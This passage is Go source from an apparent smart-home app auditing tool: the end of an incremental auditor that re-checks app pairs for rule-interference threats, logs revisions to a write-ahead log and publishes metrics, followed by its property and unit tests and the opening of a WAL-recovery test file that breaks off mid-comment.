			if len(s) == 0 {
				delete(a.pairsOf, id.b)
			}
		}
	}
}

// deltaEntry is one delta finding plus the sort keys that reproduce
// serial install order: ascending later-side position, the intra pair
// before the cross pairs of the same install, then ascending earlier-side
// position (exactly how Run lays out PerInstall).
type deltaEntry struct {
	aPos, bPos int
	f          Finding
}

func sortDelta(entries []deltaEntry) []Finding {
	sort.SliceStable(entries, func(i, j int) bool {
		if entries[i].bPos != entries[j].bPos {
			return entries[i].bPos < entries[j].bPos
		}
		ii, ij := entries[i].aPos == entries[i].bPos, entries[j].aPos == entries[j].bPos
		if ii != ij {
			return ii
		}
		return entries[i].aPos < entries[j].aPos
	})
	out := make([]Finding, 0, len(entries))
	for _, e := range entries {
		out = append(out, e.f)
	}
	return out
}

// threatIdentity is the delta identity of one threat: kind, the two
// qualified rule IDs, the shared property and the note. The witness is
// excluded on purpose — a re-solved pair may pick a different concrete
// witness for the same interference without churning the feed.
func threatIdentity(t *detect.Threat) string {
	return string(t.Kind) + "\x00" + t.R1.QualifiedID() + "\x00" + t.R2.QualifiedID() +
		"\x00" + string(t.Property) + "\x00" + t.Note
}

// diffThreats computes the multiset delta between one pair's old and new
// verdicts, preserving each side's order.
func diffThreats(old, new []detect.Threat) (added, resolved []detect.Threat) {
	if len(old) == 0 {
		return new, nil
	}
	if len(new) == 0 {
		return nil, old
	}
	have := make(map[string]int, len(old))
	for i := range old {
		have[threatIdentity(&old[i])]++
	}
	for i := range new {
		id := threatIdentity(&new[i])
		if have[id] > 0 {
			have[id]--
		} else {
			added = append(added, new[i])
		}
	}
	want := make(map[string]int, len(new))
	for i := range new {
		want[threatIdentity(&new[i])]++
	}
	for i := range old {
		id := threatIdentity(&old[i])
		if want[id] > 0 {
			want[id]--
		} else {
			resolved = append(resolved, old[i])
		}
	}
	return added, resolved
}

// Apply mutates the store by one batch and returns the resulting
// revision. Removes run first, then upserts (the last upsert of a name
// within one batch wins); per-app failures land in Revision.Errors
// without failing the batch. Only pairs whose footprints intersect a
// changed app are re-checked — candidates come from the footprint
// index's posting lists, checked over the worker pool with one fresh
// detector per worker — and pairs that stopped sharing any channel are
// resolved without solving (the footprint prune guarantees they are
// clean).
func (a *Auditor) Apply(batch Batch) (*Revision, error) {
	if len(batch.Upserts) == 0 && len(batch.Removes) == 0 {
		return nil, ErrEmptyBatch
	}
	return a.apply(batch, 0)
}

// apply is Apply's engine. A non-zero replayLSN marks boot-time WAL
// replay: the batch's upserts carry pre-extracted results decoded from
// the op record, the empty-batch check is waived (an acked batch whose
// every op errored still produced a revision, and replay must reproduce
// the revision numbering exactly), events/metrics are not re-published,
// no record is re-appended, and a record at or below the persisted
// watermark is skipped as already reflected in the restored checkpoint.
func (a *Auditor) apply(batch Batch, replayLSN uint64) (*Revision, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	if replayLSN > 0 && a.walLSN >= replayLSN {
		return nil, nil // already in the checkpoint
	}
	start := time.Now()
	var sp *obs.Span
	if a.opts.Obs != nil {
		sp = a.opts.Obs.Tracer.Start("audit.apply")
	}

	rev := &Revision{}
	errAt := func(key string, err error) {
		if rev.Errors == nil {
			rev.Errors = map[string]error{}
		}
		rev.Errors[key] = err
	}

	// Phase 1: extract upserts, parallel over the inputs that need it.
	type prepared struct {
		name string
		res  *symexec.Result
		cfg  *detect.Config
	}
	preps := make([]prepared, len(batch.Upserts))
	perr := make([]error, len(batch.Upserts))
	xsp := sp.Child("extract")
	runTasks(len(batch.Upserts), a.workers, func(i int) {
		in := &batch.Upserts[i]
		res := in.Res
		if res == nil {
			var err error
			if a.opts.Extract != nil {
				res, err = a.opts.Extract.Extract(in.Source, in.Name)
			} else {
				res, err = symexec.Extract(in.Source, in.Name)
			}
			if err != nil {
				perr[i] = err
				return
			}
		}
		name := in.Name
		if name == "" {
			name = res.App.Name
		}
		if name == "" {
			perr[i] = fmt.Errorf("audit: upsert %d has no app name", i)
			return
		}
		preps[i] = prepared{name: name, res: res, cfg: in.Config}
	})
	if xsp != nil {
		xsp.SetInt("apps", int64(len(batch.Upserts)))
		xsp.End()
	}
	for i, err := range perr {
		if err == nil {
			continue
		}
		key := batch.Upserts[i].Name
		if key == "" {
			key = fmt.Sprintf("upsert[%d]", i)
		}
		errAt(key, err)
	}
	// The batch describes a desired end state, not a replay: the last
	// upsert of each name wins.
	last := map[string]int{}
	for i := range preps {
		if perr[i] == nil {
			last[preps[i].name] = i
		}
	}

	var addedD, resolvedD []deltaEntry
	resolvePair := func(id pairID, aPos, bPos int) {
		for _, t := range a.verdicts[id] {
			resolvedD = append(resolvedD, deltaEntry{aPos, bPos, Finding{id.a, id.b, t}})
		}
		a.dropPair(id)
	}

	// The effective ops — removes that hit an installed app, the winning
	// upsert per name — are what the WAL record carries: replaying them
	// reproduces this batch's end state without the failed inputs.
	var effRemoves []string
	var effUpserts []walUpsert

	// Phase 2: removals. Every pair involving a removed app resolves, the
	// slot's postings clear and the slot goes on the freelist for reuse.
	for _, name := range batch.Removes {
		st := a.byName[name]
		if st == nil {
			errAt(name, ErrUnknownApp)
			continue
		}
		effRemoves = append(effRemoves, name)
		for counter := range a.pairsOf[name] {
			if counter == name {
				resolvePair(pairID{name, name}, st.pos, st.pos)
				continue
			}
			other := a.byName[counter]
			id := pairIDOf(st, other)
			lo, hi := st.pos, other.pos
			if lo > hi {
				lo, hi = hi, lo
			}
			resolvePair(id, lo, hi)
		}
		a.idx.Update(st.slot, nil)
		a.slots[st.slot] = nil
		a.free = append(a.free, st.slot)
		delete(a.byName, name)
		copy(a.order[st.pos:], a.order[st.pos+1:])
		a.order = a.order[:len(a.order)-1]
		for i := st.pos; i < len(a.order); i++ {
			a.order[i].pos = i
		}
	}

	// Phase 3: upserts — build the new InstalledApp, compile it once
	// (single-threaded: the compiled-set attach is an unsynchronized
	// write) and splice its footprint into the index. Updates keep their
	// store position; submits append.
	csp := sp.Child("compile")
	var changed []*storeApp
	for i := range preps {
		if perr[i] != nil || last[preps[i].name] != i {
			continue
		}
		p := &preps[i]
		effUpserts = append(effUpserts, walUpsert{name: p.name, res: p.res, cfg: p.cfg})
		ia := detect.NewInstalledApp(p.res, p.cfg)
		a.compiler.Precompile(ia)
		if st := a.byName[p.name]; st != nil {
			st.app = ia
			a.idx.Update(st.slot, ia.Footprint())
			changed = append(changed, st)
			continue
		}
		st := &storeApp{name: p.name, app: ia}
		if k := len(a.free); k > 0 {
			st.slot = a.free[k-1]
			a.free = a.free[:k-1]
			a.slots[st.slot] = st
			a.idx.Update(st.slot, ia.Footprint())
		} else {
			st.slot = a.idx.Add(ia.Footprint())
			a.slots = append(a.slots, st)
		}
		st.pos = len(a.order)
		a.order = append(a.order, st)
		a.byName[p.name] = st
		changed = append(changed, st)
	}
	if csp != nil {
		csp.SetInt("apps", int64(len(changed)))
		csp.End()
	}

	// Phase 4: candidate pairs. Each changed app contributes its intra
	// pair plus every counterpart sharing a channel (posting-list walk —
	// cost scales with actual overlap, not store size); pairs between two
	// changed apps dedupe through the task set.
	gsp := sp.Child("candidates")
	type ptask struct {
		id         pairID
		x, y       *detect.InstalledApp // x is the earlier-installed side
		aPos, bPos int
	}
	taskIx := map[pairID]struct{}{}
	var tasks []ptask
	addTask := func(x, y *storeApp) {
		id := pairIDOf(x, y)
		if _, ok := taskIx[id]; ok {
			return
		}
		taskIx[id] = struct{}{}
		lo, hi := x, y
		if y.pos < x.pos {
			lo, hi = y, x
		}
		tasks = append(tasks, ptask{id: id, x: lo.app, y: hi.app, aPos: lo.pos, bPos: hi.pos})
	}
	var buf []int32
	for _, st := range changed {
		addTask(st, st)
		buf = a.idx.AppendCandidates(st.app.Footprint(), buf[:0])
		for _, s := range buf {
			other := a.slots[s]
			if other == nil || other == st {
				continue
			}
			addTask(st, other)
		}
	}
	if gsp != nil {
		gsp.SetInt("tasks", int64(len(tasks)))
		gsp.End()
	}

	// Phase 5: pair detection over the work-stealing pool, one fresh
	// detector per worker (the shared InstalledApps are immutable after
	// Precompile, so this is the same race-free sharing Run relies on).
	psp := sp.Child("pairs")
	results := make([][]detect.Threat, len(tasks))
	dets := make([]*detect.Detector, a.workers)
	for w := range dets {
		dets[w] = detect.New(a.opts.Detector)
	}
	runTasksWorker(len(tasks), a.workers, func(w, k int) {
		results[k] = dets[w].DetectAppPairCandidate(tasks[k].x, tasks[k].y)
	})
	rev.Stats = dets[0].Stats()
	for _, d := range dets[1:] {
		rev.Stats.Merge(d.Stats())
	}
	if psp != nil {
		psp.SetInt("pairs", int64(len(tasks)))
		psp.End()
	}

	// Phase 6: delta. Pairs that had findings involving a changed app but
	// came back as no candidate stopped sharing any channel — the
	// footprint prune proves them clean, so they resolve without solving.
	// Checked pairs diff old against new verdicts by threat identity.
	dsp := sp.Child("delta")
	for _, st := range changed {
		for counter := range a.pairsOf[st.name] {
			var id pairID
			var lo, hi int
			if counter == st.name {
				id = pairID{counter, counter}
				lo, hi = st.pos, st.pos
			} else {
				other := a.byName[counter]
				id = pairIDOf(st, other)
				lo, hi = st.pos, other.pos
				if lo > hi {
					lo, hi = hi, lo
				}
			}
			if _, ok := taskIx[id]; ok {
				continue
			}
			resolvePair(id, lo, hi)
		}
	}
	for k := range tasks {
		t := &tasks[k]
		old := a.verdicts[t.id]
		newTs := results[k]
		add, res := diffThreats(old, newTs)
		for _, th := range add {
			addedD = append(addedD, deltaEntry{t.aPos, t.bPos, Finding{t.id.a, t.id.b, th}})
		}
		for _, th := range res {
			resolvedD = append(resolvedD, deltaEntry{t.aPos, t.bPos, Finding{t.id.a, t.id.b, th}})
		}
		if len(newTs) > 0 {
			a.verdicts[t.id] = newTs
			a.notePair(t.id)
		} else if len(old) > 0 {
			a.dropPair(t.id)
		}
	}
	rev.Added = sortDelta(addedD)
	rev.Resolved = sortDelta(resolvedD)
	if dsp != nil {
		dsp.SetInt("added", int64(len(rev.Added)))
		dsp.SetInt("resolved", int64(len(rev.Resolved)))
		dsp.End()
	}

	// Phase 7: version, retain, log, publish. The WAL record is appended
	// after the mutation and before the caller is acknowledged (commit-log
	// semantics, same as the fleet): an append failure returns the batch
	// un-acknowledged, and the log's crash-stop latching refuses every
	// later batch, so recovery never resurrects an un-acked revision.
	// Exactly one record per acked revision — even when every op errored —
	// keeps replayed revision numbering identical to the pre-crash run.
	a.rev++
	rev.Rev = a.rev
	rev.Apps = len(a.order)
	rev.Pairs = len(tasks)
	rev.Duration = time.Since(start)
	a.active += len(rev.Added) - len(rev.Resolved)
	a.history = append(a.history, rev)
	if len(a.history) > a.opts.History {
		a.history = append(a.history[:0:0], a.history[len(a.history)-a.opts.History:]...)
	}
	if replayLSN > 0 {
		// Replayed batches were published before the crash; re-emitting
		// their events or re-counting their metrics would double them.
		a.walLSN = replayLSN
	} else {
		if a.wal != nil {
			payload, err := encodeBatchOp(effRemoves, effUpserts)
			if err == nil {
				var wsp *obs.Span
				if sp != nil {
					wsp = sp.Child("wal.append")
				}
				var lsn uint64
				lsn, err = a.wal.Append(wal.OpAuditBatch, payload)
				if wsp != nil {
					wsp.End()
				}
				if err == nil {
					a.walLSN = lsn
				}
			}
			if err != nil {
				if sp != nil {
					sp.End()
				}
				return nil, fmt.Errorf("audit: rev %d: wal append: %w", rev.Rev, err)
			}
		}
		a.publishEvents(rev)
		a.publishMetrics(rev)
	}
	if sp != nil {
		sp.SetInt("rev", int64(rev.Rev))
		sp.SetInt("added", int64(len(rev.Added)))
		sp.SetInt("resolved", int64(len(rev.Resolved)))
		sp.End()
	}
	return rev, nil
}

// Findings returns the store's full active finding set in serial install
// order — byte-identical to what Run over the current store reports
// (pinned by the churn property test).
func (a *Auditor) Findings() []Finding {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.findingsLocked()
}

// Threats flattens Findings to the bare threat list.
func (a *Auditor) Threats() []detect.Threat {
	fs := a.Findings()
	out := make([]detect.Threat, 0, len(fs))
	for _, f := range fs {
		out = append(out, f.Threat)
	}
	return out
}

func (a *Auditor) findingsLocked() []Finding {
	var out []Finding
	type part struct {
		pos int
		id  pairID
	}
	var parts []part
	for _, st := range a.order {
		for _, t := range a.verdicts[pairID{st.name, st.name}] {
			out = append(out, Finding{st.name, st.name, t})
		}
		parts = parts[:0]
		for counter := range a.pairsOf[st.name] {
			if counter == st.name {
				continue
			}
			other := a.byName[counter]
			if other.pos >= st.pos {
				continue // counted at the later-installed side
			}
			parts = append(parts, part{other.pos, pairID{counter, st.name}})
		}
		sort.Slice(parts, func(i, j int) bool { return parts[i].pos < parts[j].pos })
		for _, p := range parts {
			for _, t := range a.verdicts[p.id] {
				out = append(out, Finding{p.id.a, p.id.b, t})
			}
		}
	}
	return out
}

// FindingsSince answers the findings feed for a client that last saw
// revision since: the concatenated per-revision deltas when the retained
// history still covers (since, current], or a Reset snapshot of the full
// active set when since has aged out.
func (a *Auditor) FindingsSince(since uint64) *Feed {
	a.mu.Lock()
	defer a.mu.Unlock()
	f := &Feed{Rev: a.rev, Since: since}
	if since >= a.rev {
		return f
	}
	if n := len(a.history); n > 0 && a.history[0].Rev <= since+1 {
		for _, r := range a.history {
			if r.Rev <= since {
				continue
			}
			f.Added = append(f.Added, r.Added...)
			f.Resolved = append(f.Resolved, r.Resolved...)
		}
		return f
	}
	f.Reset = true
	f.Added = a.findingsLocked()
	return f
}

// publishEvents ships one revision event plus one event per delta
// finding; Publish never blocks (nil writers no-op).
func (a *Auditor) publishEvents(rev *Revision) {
	w := a.opts.Events
	if w == nil {
		return
	}
	w.Publish(events.Event{
		Type: events.TypeRevision, Rev: rev.Rev, Threats: len(rev.Added),
		DurationMs: float64(rev.Duration.Microseconds()) / 1000.0,
	})
	for _, f := range rev.Added {
		w.Publish(events.Event{
			Type: events.TypeFinding, Rev: rev.Rev, App: f.App1, App2: f.App2,
			Kind: string(f.Threat.Kind), Status: events.StatusAdded,
		})
	}
	for _, f := range rev.Resolved {
		w.Publish(events.Event{
			Type: events.TypeFinding, Rev: rev.Rev, App: f.App1, App2: f.App2,
			Kind: string(f.Threat.Kind), Status: events.StatusResolved,
		})
	}
}

// publishMetrics folds one revision into the homeguard_audit_* catalog.
// Registration is idempotent by name, so every Apply may re-ask.
func (a *Auditor) publishMetrics(rev *Revision) {
	o := a.opts.Obs
	if o == nil {
		return
	}
	r := o.Registry
	r.Counter("homeguard_audit_revisions_total", "Store revisions applied by the incremental auditor.").Inc()
	r.Counter("homeguard_audit_pairs_rechecked_total", "App pairs re-checked across incremental revisions.").Add(uint64(rev.Pairs))
	r.Counter("homeguard_audit_findings_added_total", "Findings added across incremental revisions.").Add(uint64(len(rev.Added)))
	r.Counter("homeguard_audit_findings_resolved_total", "Findings resolved across incremental revisions.").Add(uint64(len(rev.Resolved)))
	r.Counter("homeguard_audit_pairs_checked_total", "Rule pairs checked across audit runs.").Add(uint64(rev.Stats.PairsChecked))
	r.Counter("homeguard_audit_solver_calls_total", "Solver invocations across audit runs.").Add(uint64(rev.Stats.SolverCalls))
	r.Gauge("homeguard_audit_store_apps", "Apps currently in the audited store.").Set(int64(rev.Apps))
	r.Gauge("homeguard_audit_findings_active", "Currently active findings across the audited store.").Set(int64(a.active))
}
