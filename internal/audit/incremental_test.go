package audit_test

import (
	"bytes"
	"errors"
	"math/rand"
	"strings"
	"testing"

	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/detect"
	"homeguard/internal/events"
	"homeguard/internal/experiments"
	"homeguard/internal/obs"
)

// synthMap keys a synthetic corpus by app name (the synthetic apps carry
// pre-built extraction results, so names live on Res.App.Name).
func synthMap(apps []audit.App) map[string]audit.App {
	m := make(map[string]audit.App, len(apps))
	for _, a := range apps {
		m[a.Res.App.Name] = a
	}
	return m
}

// fullThreats runs the from-scratch engine over the store in install
// order and flattens the per-install threats.
func fullThreats(t *testing.T, order []string, cur map[string]audit.App) []detect.Threat {
	t.Helper()
	in := make([]audit.App, 0, len(order))
	for _, name := range order {
		in = append(in, cur[name])
	}
	full := audit.Run(in, audit.Options{IndexDensityCutoff: 1.1})
	for i, err := range full.Errors {
		if err != nil {
			t.Fatalf("full audit error at %d: %v", i, err)
		}
	}
	var out []detect.Threat
	for _, ts := range full.PerInstall {
		out = append(out, ts...)
	}
	return out
}

func marshal(t *testing.T, ts []detect.Threat) []byte {
	t.Helper()
	b, err := detect.MarshalThreats(ts)
	if err != nil {
		t.Fatalf("marshal threats: %v", err)
	}
	return b
}

// TestIncrementalMatchesFullAudit is the churn property test: a
// randomized submit/update/remove sequence applied through the
// incremental auditor must leave findings byte-identical to a
// from-scratch full audit of the current store at EVERY revision — same
// threats, same witnesses, same serial install order.
func TestIncrementalMatchesFullAudit(t *testing.T) {
	const n, pool = 40, 16
	// Three generations of the same 40 names: same apps, different device
	// bindings and trigger constraints — an "update" swaps generations.
	gens := []map[string]audit.App{
		synthMap(experiments.SyntheticSparseApps(n, pool, 1)),
		synthMap(experiments.SyntheticSparseApps(n, pool, 2)),
		synthMap(experiments.SyntheticSparseApps(n, pool, 3)),
	}
	names := make([]string, 0, n)
	for _, a := range experiments.SyntheticSparseApps(n, pool, 1) {
		names = append(names, a.Res.App.Name)
	}

	for _, seed := range []int64{1, 7} {
		rng := rand.New(rand.NewSource(seed))
		aud := audit.NewAuditor(audit.AuditorOptions{Workers: 4})

		// The model store: expected install order and each name's current
		// generation and app value.
		var order []string
		gen := map[string]int{}
		cur := map[string]audit.App{}

		for step := 0; step < 10; step++ {
			var batch audit.Batch
			expectOrder := append([]string(nil), order...)
			removed := map[string]bool{}
			touched := map[string]bool{} // upserted this batch
			ops := 1 + rng.Intn(5)
			for op := 0; op < ops; op++ {
				switch k := rng.Intn(3); {
				case k == 0 && len(order) > 0: // remove an app present at batch start
					name := order[rng.Intn(len(order))]
					// Removes apply before upserts, so removing a name this
					// batch also upserts would reinstall it — keep the model
					// simple and skip that combination.
					if removed[name] || touched[name] {
						continue
					}
					removed[name] = true
					batch.Removes = append(batch.Removes, name)
					for i, o := range expectOrder {
						if o == name {
							expectOrder = append(expectOrder[:i], expectOrder[i+1:]...)
							break
						}
					}
					delete(gen, name)
					delete(cur, name)
				case k == 1 && len(expectOrder) > 0: // update an installed app
					name := expectOrder[rng.Intn(len(expectOrder))]
					g := (gen[name] + 1) % 3
					gen[name] = g
					batch.Upserts = append(batch.Upserts, gens[g][name])
					cur[name] = gens[g][name]
					touched[name] = true
				default: // submit a new app
					name := names[rng.Intn(len(names))]
					if _, ok := cur[name]; ok || removed[name] {
						continue
					}
					gen[name] = 0
					batch.Upserts = append(batch.Upserts, gens[0][name])
					cur[name] = gens[0][name]
					touched[name] = true
					expectOrder = append(expectOrder, name)
				}
			}
			if len(batch.Upserts) == 0 && len(batch.Removes) == 0 {
				continue
			}
			rev, err := aud.Apply(batch)
			if err != nil {
				t.Fatalf("seed %d step %d: apply: %v", seed, step, err)
			}
			if len(rev.Errors) != 0 {
				t.Fatalf("seed %d step %d: unexpected batch errors: %v", seed, step, rev.Errors)
			}
			order = expectOrder

			if got := aud.Apps(); !equalStrings(got, order) {
				t.Fatalf("seed %d step %d: store order = %v, want %v", seed, step, got, order)
			}
			got := marshal(t, aud.Threats())
			want := marshal(t, fullThreats(t, order, cur))
			if !bytes.Equal(got, want) {
				t.Fatalf("seed %d step %d (rev %d): incremental findings diverge from full audit\nincremental: %s\nfull: %s",
					seed, step, rev.Rev, got, want)
			}
		}
	}
}

func equalStrings(a, b []string) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// TestAuditorDeltaConsistency pins that replaying every revision's
// Added/Resolved delta reconstructs the active finding set — the
// contract feed consumers rely on.
func TestAuditorDeltaConsistency(t *testing.T) {
	apps := experiments.SyntheticSparseApps(30, 12, 1)
	aud := audit.NewAuditor(audit.AuditorOptions{Workers: 2})

	active := map[string]int{} // finding identity -> count
	key := func(f audit.Finding) string {
		b, err := detect.MarshalThreats([]detect.Threat{f.Threat})
		if err != nil {
			t.Fatalf("marshal: %v", err)
		}
		return f.App1 + "\x00" + f.App2 + "\x00" + string(b)
	}
	apply := func(batch audit.Batch) {
		t.Helper()
		rev, err := aud.Apply(batch)
		if err != nil {
			t.Fatalf("apply: %v", err)
		}
		for _, f := range rev.Added {
			active[key(f)]++
		}
		for _, f := range rev.Resolved {
			k := key(f)
			active[k]--
			if active[k] == 0 {
				delete(active, k)
			} else if active[k] < 0 {
				t.Fatalf("rev %d resolved a finding that was never added: %v", rev.Rev, f)
			}
		}
		want := map[string]int{}
		for _, f := range aud.Findings() {
			want[key(f)]++
		}
		if len(active) != len(want) {
			t.Fatalf("rev %d: delta replay has %d identities, active set has %d", rev.Rev, len(active), len(want))
		}
		for k, n := range want {
			if active[k] != n {
				t.Fatalf("rev %d: delta replay count %d != active %d for %q", rev.Rev, active[k], n, k)
			}
		}
	}

	for i := 0; i < len(apps); i += 6 {
		var batch audit.Batch
		for j := i; j < i+6 && j < len(apps); j++ {
			batch.Upserts = append(batch.Upserts, apps[j])
		}
		apply(batch)
	}
	// Churn: remove a third, then resubmit them.
	var rm, back audit.Batch
	for i := 0; i < len(apps); i += 3 {
		rm.Removes = append(rm.Removes, apps[i].Res.App.Name)
		back.Upserts = append(back.Upserts, apps[i])
	}
	apply(rm)
	apply(back)
	if got := aud.ActiveFindings(); got != len(aud.Findings()) {
		t.Fatalf("ActiveFindings = %d, Findings has %d", got, len(aud.Findings()))
	}
}

// TestAuditorFindingsSince covers delta replay, the since>=rev fast
// path, and the Reset fallback once history is trimmed.
func TestAuditorFindingsSince(t *testing.T) {
	apps := experiments.SyntheticSparseApps(24, 10, 1)
	aud := audit.NewAuditor(audit.AuditorOptions{Workers: 2, History: 2})

	for i := 0; i < len(apps); i += 4 {
		var batch audit.Batch
		for j := i; j < i+4 && j < len(apps); j++ {
			batch.Upserts = append(batch.Upserts, apps[j])
		}
		if _, err := aud.Apply(batch); err != nil {
			t.Fatalf("apply: %v", err)
		}
	}
	cur := aud.Rev()
	if cur != 6 {
		t.Fatalf("rev = %d, want 6", cur)
	}

	if f := aud.FindingsSince(cur); f.Reset || len(f.Added) != 0 || len(f.Resolved) != 0 || f.Rev != cur {
		t.Fatalf("FindingsSince(current) = %+v, want empty non-reset", f)
	}
	if f := aud.FindingsSince(cur + 5); f.Reset || len(f.Added) != 0 {
		t.Fatalf("FindingsSince(future) = %+v, want empty non-reset", f)
	}

	// History=2 retains revisions 5 and 6: since 4 replays deltas, since
	// 3 must degrade to a reset snapshot equal to the full active set.
	if f := aud.FindingsSince(cur - 2); f.Reset {
		t.Fatalf("FindingsSince(rev-2) reset with history covering it")
	}
	f := aud.FindingsSince(cur - 3)
	if !f.Reset {
		t.Fatalf("FindingsSince(rev-3) = %+v, want reset (history trimmed)", f)
	}
	got := marshal(t, findingThreats(f.Added))
	want := marshal(t, aud.Threats())
	if !bytes.Equal(got, want) {
		t.Fatalf("reset snapshot diverges from active set:\n%s\nvs\n%s", got, want)
	}
}

func findingThreats(fs []audit.Finding) []detect.Threat {
	out := make([]detect.Threat, 0, len(fs))
	for _, f := range fs {
		out = append(out, f.Threat)
	}
	return out
}

// TestAuditorBatchErrors covers the per-app failure paths: unknown
// removes, failed extractions (store entry unchanged) and the empty
// batch sentinel.
func TestAuditorBatchErrors(t *testing.T) {
	aud := audit.NewAuditor(audit.AuditorOptions{Workers: 2})
	if _, err := aud.Apply(audit.Batch{}); !errors.Is(err, audit.ErrEmptyBatch) {
		t.Fatalf("empty batch: err = %v, want ErrEmptyBatch", err)
	}

	tv, _ := corpus.Get("ComfortTV")
	cd, _ := corpus.Get("ColdDefender")
	rev, err := aud.Apply(audit.Batch{
		Upserts: []audit.App{{Source: tv.Source}, {Source: cd.Source}},
		Removes: []string{"NoSuchApp"},
	})
	if err != nil {
		t.Fatalf("apply: %v", err)
	}
	if !errors.Is(rev.Errors["NoSuchApp"], audit.ErrUnknownApp) {
		t.Fatalf("remove of unknown app: errors = %v, want ErrUnknownApp", rev.Errors)
	}
	if rev.Apps != 2 || len(rev.Added) == 0 {
		t.Fatalf("rev = apps %d added %d, want 2 apps and threats (ComfortTV vs ColdDefender)", rev.Apps, len(rev.Added))
	}

	before := marshal(t, aud.Threats())
	rev, err = aud.Apply(audit.Batch{Upserts: []audit.App{
		{Name: "Broken", Source: "definition("}, // unparsable
	}})
	if err != nil {
		t.Fatalf("apply: %v", err)
	}
	if rev.Errors["Broken"] == nil {
		t.Fatalf("broken upsert: errors = %v, want extraction error", rev.Errors)
	}
	if rev.Apps != 2 || len(rev.Added) != 0 || len(rev.Resolved) != 0 {
		t.Fatalf("broken upsert changed the store: %+v", rev)
	}
	if after := marshal(t, aud.Threats()); !bytes.Equal(before, after) {
		t.Fatalf("broken upsert changed findings")
	}

	// Remove one side: its findings resolve and the active set empties of
	// cross-app threats.
	rev, err = aud.Apply(audit.Batch{Removes: []string{"ColdDefender"}})
	if err != nil {
		t.Fatalf("apply: %v", err)
	}
	if len(rev.Resolved) == 0 {
		t.Fatalf("removing ColdDefender resolved nothing")
	}
	for _, f := range aud.Findings() {
		if f.App1 == "ColdDefender" || f.App2 == "ColdDefender" {
			t.Fatalf("finding survived its app's removal: %+v", f)
		}
	}
}

// TestAuditorEventsAndMetrics pins the observable surface: revision and
// finding events on the writer, homeguard_audit_* series in the
// registry.
func TestAuditorEventsAndMetrics(t *testing.T) {
	var buf bytes.Buffer
	w := events.NewWriter(events.NewJSONSink(&buf), events.Options{})
	o := obs.NewObserver()
	o.Tracer.SetEnabled(true)
	aud := audit.NewAuditor(audit.AuditorOptions{Workers: 2, Obs: o, Events: w})

	tv, _ := corpus.Get("ComfortTV")
	cd, _ := corpus.Get("ColdDefender")
	rev, err := aud.Apply(audit.Batch{Upserts: []audit.App{{Source: tv.Source}, {Source: cd.Source}}})
	if err != nil {
		t.Fatalf("apply: %v", err)
	}
	if rev.Rev != 1 || len(rev.Added) == 0 {
		t.Fatalf("rev = %+v, want rev 1 with added findings", rev)
	}
	if _, err := aud.Apply(audit.Batch{Removes: []string{"ColdDefender"}}); err != nil {
		t.Fatalf("apply: %v", err)
	}
	w.Close()

	out := buf.String()
	for _, want := range []string{
		`"type":"revision"`, `"type":"finding"`, `"status":"added"`, `"status":"resolved"`, `"rev":2`,
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("event stream missing %s:\n%s", want, out)
		}
	}

	var scrapeBuf bytes.Buffer
	if err := o.Registry.WritePrometheus(&scrapeBuf); err != nil {
		t.Fatalf("scrape: %v", err)
	}
	scrape := scrapeBuf.String()
	for _, name := range []string{
		"homeguard_audit_revisions_total 2",
		"homeguard_audit_pairs_rechecked_total",
		"homeguard_audit_findings_added_total",
		"homeguard_audit_findings_resolved_total",
		"homeguard_audit_store_apps 1",
		"homeguard_audit_findings_active",
	} {
		if !strings.Contains(scrape, name) {
			t.Fatalf("scrape missing %s:\n%s", name, scrape)
		}
	}
}
