package audit_test

import (
	"bytes"
	"fmt"
	"testing"

	"homeguard/internal/audit"
	"homeguard/internal/corpus"
	"homeguard/internal/wal"
)

func openAuditWAL(t *testing.T, dir string) *wal.Log {
	t.Helper()
	l, err := wal.Open(wal.Options{Dir: dir, Fsync: wal.FsyncOff})
	if err != nil {
		t.Fatalf("wal.Open: %v", err)
	}
	return l
}

// driveBatches runs a fixed store history — submits, an update, a
// remove, and a batch whose only op fails — used by every recovery test
// as "the acknowledged history". The all-errors batch matters: it still
// produced a revision, and recovery must reproduce the numbering.
func driveBatches(t *testing.T, aud *audit.Auditor) {
	t.Helper()
	src := func(name string) string {
		t.Helper()
		app, ok := corpus.Get(name)
		if !ok {
			t.Fatalf("corpus app %q not found", name)
		}
		return app.Source
	}
	apply := func(b audit.Batch) {
		t.Helper()
		if _, err := aud.Apply(b); err != nil {
			t.Fatalf("apply: %v", err)
		}
	}
	apply(audit.Batch{Upserts: []audit.App{{Source: src("ComfortTV")}, {Source: src("ColdDefender")}}})
	apply(audit.Batch{Upserts: []audit.App{{Source: src("CatchLiveShow")}, {Source: src("BurglarFinder")}}})
	apply(audit.Batch{Removes: []string{"NoSuchApp"}}) // acked, rev bumped, zero effective ops
	apply(audit.Batch{
		Removes: []string{"ColdDefender"},
		Upserts: []audit.App{{Source: src("NightCare")}, {Source: src("ColdDefender")}},
	})
}

// assertAuditorsEqual compares the durable state two auditors serve:
// revision, store order, the active finding set and the feed history.
func assertAuditorsEqual(t *testing.T, want, got *audit.Auditor) {
	t.Helper()
	if w, g := want.Rev(), got.Rev(); w != g {
		t.Fatalf("rev: got %d, want %d", g, w)
	}
	if w, g := fmt.Sprint(want.Apps()), fmt.Sprint(got.Apps()); w != g {
		t.Fatalf("store order: got %s, want %s", g, w)
	}
	wf, gf := want.Findings(), got.Findings()
	for i := range wf {
		if i < len(gf) && (wf[i].App1 != gf[i].App1 || wf[i].App2 != gf[i].App2) {
			t.Fatalf("finding %d pair: got (%s,%s), want (%s,%s)", i, gf[i].App1, gf[i].App2, wf[i].App1, wf[i].App2)
		}
	}
	if !bytes.Equal(marshal(t, findingThreats(wf)), marshal(t, findingThreats(gf))) {
		t.Fatalf("findings diverged: %d vs %d", len(gf), len(wf))
	}
	if w, g := want.ActiveFindings(), got.ActiveFindings(); w != g {
		t.Fatalf("active findings: got %d, want %d", g, w)
	}
	wfeed, gfeed := want.FindingsSince(0), got.FindingsSince(0)
	if wfeed.Reset != gfeed.Reset ||
		!bytes.Equal(marshal(t, findingThreats(wfeed.Added)), marshal(t, findingThreats(gfeed.Added))) ||
		!bytes.Equal(marshal(t, findingThreats(wfeed.Resolved)), marshal(t, findingThreats(gfeed.Resolved))) {
		t.Fatalf("feed since 0 diverged")
	}
}

// TestAuditorWALReplay rebuilds the store from nothing but the log:
